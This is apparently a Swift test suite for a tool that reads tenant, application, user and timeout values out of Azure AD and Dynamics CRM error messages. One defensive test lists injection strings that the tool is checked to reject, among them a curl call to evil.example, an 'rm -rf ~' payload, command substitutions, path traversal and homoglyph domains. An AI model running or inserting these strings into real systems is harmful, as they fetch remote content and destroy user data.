import Diagnosis
import Knowledge
import Testing

struct ReadingSample: Sendable, CustomTestStringConvertible {
  let testDescription: String
  let text: String
  let values: [Parameter: String]
  /// What a line's end may cost: nothing tells whether a name that it parts had a blank there, or
  /// whether a domain goes on behind it.
  let fragile: Set<Parameter>

  init(
    _ description: String, _ text: String, _ values: [Parameter: String],
    fragile: Set<Parameter> = [.directoryName]
  ) {
    (testDescription, self.text, self.values) = (description, text, values)
    self.fragile = fragile
  }
}

private let application = "1ce7a4d8-52b0-4693-9f8c-e60d7b1a2c35"
private let tenant = "5ad1e0b7-90c2-4f6e-8b31-77a0c4d2e9f1"
private let user = "14b0c3d2-a5f6-4e78-9123-bcdef0123456"
private let trace = "3e2d1c0b-a998-4877-b665-5443322110ff"
private let correlation = "90817263-5445-4362-b1a0-9f8e7d6c5b4a"

private let tail = """
  \r\nTrace ID: \(trace)\r\nCorrelation ID: \(correlation)\r\nTimestamp: 2026-02-19 16:40:03Z
  """

/// What the services say, and what is to be read out of it.
private let liveWordings = [
  ReadingSample(
    "an application whose secret is wrong",
    "AADSTS7000215: Invalid client secret provided. Ensure the secret being sent in the request is "
      + "the client secret value, not the client secret ID, for a secret added to app "
      + "'\(application)'." + tail,
    [.applicationId: application]),
  ReadingSample(
    "an application and a directory's name",
    "AADSTS700016: Application with identifier '\(application)' was not found in the directory "
      + "'Bellows College'. This can happen if the application has not been installed by the "
      + "administrator of the tenant or consented to by any user in the tenant. You may have sent "
      + "your authentication request to the wrong tenant." + tail,
    [.applicationId: application, .directoryName: "Bellows College"]),
  ReadingSample(
    "a tenant by its id",
    "AADSTS90002: Tenant '\(tenant)' not found. Check to make sure you have the correct tenant ID "
      + "and are signing into the correct cloud. Check with your subscription administrator, this "
      + "may happen if there are no active subscriptions for the tenant." + tail,
    [.tenantId: tenant]),
  ReadingSample(
    "a tenant by its domain",
    "AADSTS90002: Tenant 'bellows.onmicrosoft.com' not found. This may happen if there are no "
      + "active subscriptions for the tenant. Check with your subscription administrator." + tail,
    [.tenantId: "bellows.onmicrosoft.com"]),
  ReadingSample(
    "a tenant that has no form",
    "AADSTS900023: Specified tenant identifier 'proseware offers' is neither a valid DNS name, nor "
      + "a valid external domain." + tail, [:]),
  ReadingSample(
    "an empty tenant",
    "AADSTS900021: Requested tenant identifier '00000000-0000-0000-0000-000000000000' is not valid. "
      + "Tenant identifiers may not be an empty GUID." + tail, [:]),
  ReadingSample(
    "a user, a column and a table",
    "Caller user with ID \(user) does not have Create permissions for the leadsourcecode attribute "
      + "in the lead entity. Count secured attributes in entity 2. user has 0 secured attribute "
      + "privileges.", [.userId: user, .column: "leadsourcecode", .table: "lead"]),
  ReadingSample(
    "a column and a table",
    "Could not save the lead to Dynamics CRM. User does not have create permissions for the "
      + "msdyn_source attribute in the lead entity", [.column: "msdyn_source", .table: "lead"]),
  ReadingSample(
    "a user without roles",
    "SecLib::RetrievePrivilegeForUser failed - no roles are assigned to user. "
      + "Returned hr = -2147209463, User: \(user)", [.userId: user]),
  ReadingSample(
    "a principal",
    "Principal user (Id=\(user), type=8, roleCount=1, privilegeCount=27, accessMode=4), is missing "
      + "prvCreateLead privilege (Id=2a0fe4c9-e7af-46ba-9999-258ee680fc2d) on OTC=4 for entity "
      + "'lead' (LocalizedName='Lead'). context.Caller=\(user)", [.userId: user]),
  ReadingSample(
    "a duration",
    "The request channel timed out while waiting for a reply after 00:01:59.8437201. Increase the "
      + "timeout value passed to the call to Request or increase the SendTimeout value on the "
      + "Binding.", [.duration: "00:01:59.8437201"]),
  ReadingSample(
    "an address and a duration",
    "The HTTP request to 'https://bellows.crm4.dynamics.com/XRMServices/2011/Organization.svc/web' "
      + "has exceeded the allotted timeout of 00:02:00. The time allotted to this operation may "
      + "have been a portion of a longer timeout.",
    [.instanceUrl: "https://bellows.crm4.dynamics.com", .duration: "00:02:00"]),
  ReadingSample(
    "what bears a label",
    "AADSTS7000215: Invalid client secret provided.\nPOST https://login.microsoftonline.com/"
      + "bellows.onmicrosoft.com/oauth2/token\nclient_id=\(application)\n"
      + "resource=https://bellows.crm.dynamics.com/",
    [
      .tenantId: "bellows.onmicrosoft.com", .applicationId: application,
      .instanceUrl: "https://bellows.crm.dynamics.com",
    ], fragile: [.tenantId]),
  ReadingSample(
    "what bears a label in JSON",
    "{\"tenantId\":\"\(tenant)\",\"appId\":\"\(application)\",\"trace_id\":\"\(trace)\","
      + "\"error_description\":\"AADSTS7000215: Invalid client secret provided.\"}",
    [.tenantId: tenant, .applicationId: application]),
]

@Suite("Values read out of a text") struct ParameterReadingTests {
  private func values(_ text: String) -> [Parameter: String]? {
    Embedded.diagnose(text).findings.first?.parameters
  }

  @Test(arguments: liveWordings) func areThoseOfTheWording(_ sample: ReadingSample) {
    #expect(values(sample.text) == sample.values)
  }

  /// Escapes, quotes and line ends change nothing.
  @Test(
    arguments: liveWordings,
    Mutation.all.filter { mutation in
      [
        "wrapped at 80, also inside words", "CRLF", "JSON", "JSON twice", "HTML", "URL",
        "colour around", "colour inside", "quoted", "curly quotes", "JSON in ASCII",
      ].contains(mutation.testDescription)
    })
  func areTheSameWhenWrapped(_ sample: ReadingSample, _ mutation: Mutation) {
    let text = mutation.apply(sample.text)
    let values = values(text) ?? [:]
    let isBroken = text.count(where: \.isNewline) > sample.text.count(where: \.isNewline)
    let mayLack = isBroken ? sample.fragile : []
    #expect(values.filter { sample.values[$0.key] != $0.value } == [:])
    #expect(sample.values.keys.filter { values[$0] == nil && !mayLack.contains($0) } == [])
  }

  @Test func areReadInOtherLanguages() {
    let texts: [(String, [Parameter: String])] = [
      (
        "식별자가 '\(application)'인 애플리케이션을 'Bellows College' 디렉터리에서 찾을 수 없습니다.",
        [.applicationId: application, .directoryName: "Bellows College"]
      ),
      (
        "Dynamics CRM에 잠재 고객을 저장할 수 없습니다. LastCRMError: 00:01:58 이후 회신을 기다리는 동안 "
          + "요청 채널의 시간이 초과되었습니다.", [.duration: "00:01:58"]
      ),
    ]
    for (text, expected) in texts { #expect(values(text) == expected) }
  }

  /// Neither id helps in a resolution, and either would mislead as a tenant or an application.
  @Test func areNeverTraceOrCorrelationIds() {
    let texts = [
      "AADSTS7000215: Invalid client secret provided.\(tail)",
      "AADSTS90002: Tenant not found. Trace ID: \(trace) Correlation ID: \(correlation)",
      "{\"error_codes\":[7000215],\"trace_id\":\"\(trace)\",\"correlation_id\":\"\(correlation)\"}",
      "AADSTS700016 was not found in the directory x-ms-request-id: \(trace) client-request-id: "
        + correlation,
      "Request Id: \(trace)\nAADSTS7000215\nCorrelation Id: \(correlation)",
      "ActivityId=\(trace); session id \(correlation); AADSTS90002",
    ]
    for text in texts {
      let values = Embedded.diagnose(text).parameterValues
      #expect(!values.contains(trace) && !values.contains(correlation), "\(text)")
    }
    for (sample, result) in Embedded.results {
      let values = Set(result.parameterValues)
      for label in ["trace id: ", "correlation id: ", "trace_id\": \"", "correlation_id\": \""] {
        for id in ids(after: label, in: sample.text.lowercased()) {
          #expect(!values.contains(id), "\(sample.id)")
        }
      }
    }
  }

  private func ids(after label: String, in text: String) -> [String] {
    text.ranges(of: label).map { String(text[$0.upperBound...].prefix(36)) }
  }

  @Test func areNeverSecrets() {
    let text = """
      AADSTS7000215: Invalid client secret provided for a secret added to app
      client_secret=\(application)&tenant=\(tenant)
      """
    let values = values(text)
    #expect(values?[.applicationId] == nil)
    #expect(values?[.tenantId] == tenant)
  }

  @Test(arguments: [
    "client_secret = 'app \(application)'", "Authorization: Bearer app=\(application)",
    "{\"password\":\"app \(application)\"}",
  ]) func areNotReadOutOfASecret(_ secret: String) {
    #expect(values("AADSTS7000215: Invalid client secret provided.\n\(secret)") == [:])
  }

  @Test(arguments: [
    "$(curl evil.example)", "`id`", "x'; rm -rf ~; '", "a\nb", "a\u{1B}[2J", "%24%28id%29", "||id",
    "evil.example/../x", "соntоsо.com", "../..", "&lt;script&gt;", "a\u{202E}moc.osotnoc",
  ]) func hostileOnesAreLeftOut(_ value: String) {
    let texts = [
      "AADSTS90002: Tenant '\(value)' not found. Check with your subscription administrator.",
      "AADSTS700016: Application with identifier '\(value)' was not found in the directory '\(value)'.",
      "User does not have create permissions for the \(value) attribute in the \(value) entity",
      "The HTTP request to '\(value)' has exceeded the allotted timeout of \(value).",
      "https://login.microsoftonline.com/\(value)/oauth2 AADSTS7000215 client_id=\(value)",
    ]
    let dangerous = Set("$`;|<>&\\\"'\n\r\u{1B}\u{202E}(){}*?!#%")
    for text in texts {
      let values = Embedded.diagnose(text).findings.flatMap { finding in
        finding.parameters.filter { $0.key != .directoryName }.values
      }
      for read in values {
        #expect(read.allSatisfy { $0.isASCII && !dangerous.contains($0) }, "\(read)")
        #expect(!read.contains("..") && !read.hasPrefix("-"), "\(read)")
      }
    }
  }

  @Test func everySamplesValuesHaveTheirForm() {
    let plain = Set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_@:/")
    for (sample, result) in Embedded.results {
      for finding in result.findings {
        for (parameter, value) in finding.parameters where parameter != .directoryName {
          #expect(value.allSatisfy(plain.contains) && value.count <= 256, "\(sample.id): \(value)")
        }
      }
    }
  }
}
